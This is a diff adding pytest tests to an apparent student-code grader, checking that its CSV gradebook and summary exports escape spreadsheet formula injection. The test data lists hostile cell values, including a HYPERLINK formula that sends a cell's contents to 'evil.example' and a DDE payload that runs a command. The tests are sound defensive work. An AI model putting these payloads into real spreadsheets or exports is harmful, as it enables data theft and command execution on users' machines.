@@ -127,3 +127,38 @@ def test_a_compile_error_quotes_the_students_own_line_in_a_narrow_window(tmp_pat
     assert quoted.endswith("size_t cols) {") and quoted.split("| ", 1)[1].startswith("...")
     assert caret.rstrip().endswith("^") and caret.index("^") == quoted.rindex("{")
     assert len(quoted) <= 90 and len(caret) <= 90
+
+
+# --- CSV cells ----------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"ok").cu', "+cmd|' /C calc'!A0.cu", "-2+3+cmd.cu",
+            "@SUM(A1:A9).cu", "\t=1+1.cu", "\r=1+1.cu"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_file_named_as_a_formula_is_text_in_every_csv(tmp_path, name):
+    """summary.csv and gradebook.csv (batch, merge and the server's export write through them): a cell
+    a spreadsheet would run as a formula starts with ' and reads back as written (merge); a number
+    such as -0.5 is left a number."""
+    import csv
+
+    from grader.batch.grading import Graded
+    from grader.batch.inputs import Entry
+    from grader.batch.outputs import read_cell, write_gradebook, write_summary
+    from grader.core.results import result_from_json
+    from grader.exercises import load_exercise
+
+    doc = compile_error_doc()
+    doc["message"] = f"{name}: error: expected a '}}'"
+    graded = [Graded(Entry(name.removesuffix(".cu"), Path(name)), result_from_json(doc)),
+              Graded(Entry("=ada", None, "missing", "-no file"), None)]
+    write_summary(graded, tmp_path / "summary.csv")
+    write_gradebook(graded, load_exercise("bias_gelu_fused"), tmp_path / "gradebook.csv")
+    for table in ("summary.csv", "gradebook.csv"):
+        rows = list(csv.reader((tmp_path / table).open(newline="", encoding="utf-8")))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()], table
+        written = {name, name.removesuffix(".cu")}
+        assert any(read_cell(c) in written | {w.strip() for w in written} for c in cells)   # \r: one line
+    from grader.batch.outputs import inert
+    assert inert("-0.5") == "-0.5" and inert("ok.cu") == "ok.cu"
